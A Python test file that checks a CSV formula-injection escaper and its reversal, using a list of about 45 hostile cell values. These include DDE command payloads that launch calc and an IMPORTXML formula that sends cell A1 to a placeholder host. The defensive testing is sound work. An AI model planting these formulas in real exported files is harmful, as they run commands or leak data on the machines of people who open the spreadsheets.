"""T-CSV-01: what stands in a cell is nobody's formula, and what was there can be had back."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from saleor_esd_plugin.keys.cells import protected, restored

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://x.example";"click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example?v=",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    " \u00a0 @A1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20A1",
    " \uff1d1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'\t=1",
    "'\n=1",
    "Acme\n=1+1",
    "Acme\r\n=1+1",
    "Acme\r=1+1",
    "Acme\n @A1",
    "=1\n=2\n=3",
    "=1;=2,=3",
    "-",
    "=",
    "--1",
    '="x""y"',
    # Spreadsheets that begin another cell at a semicolon or a tab.
    "Acme;=1+1",
    "Acme; @A1",
    "Acme\t=1+1",
    "Acme;'=1",
    "A\t\tB",
]
FORMULA = re.compile("[ \u00a0]*[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
HARMLESS = [
    "",
    "Acme",
    "A=1",
    "1-2",
    "O'Neil",
    "'quoted'",
    "a@x.example",
    "•••••-6789B",
    "a\nb",
    "Ümlaut 🚀",
    " x",
    "a;b",
    "a\tb; c",
]


def test_there_are_more_than_forty():
    assert len(set(PAYLOADS)) == 45


@pytest.mark.parametrize("text", PAYLOADS, ids=ascii)
def test_no_line_of_a_cell_begins_like_a_formula(text):
    """And no part of it that some spreadsheet puts into a cell of its own."""
    cell = protected(text)

    assert cell != text
    assert not FORMULA.match(cell)
    for line in re.split("[\r\n;\t]", cell):
        assert not line or not FORMULA.match(line), cell
    assert restored(cell) == text


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_other_texts_stay_as_they_are(text):
    assert protected(text) == text
    assert restored(text) == text


@given(st.text(alphabet="'=-+@ \u00a0\t\r\n\uff1d;Ab1", max_size=12))
def test_whatever_it_was_comes_back(text):
    assert restored(protected(text)) == text
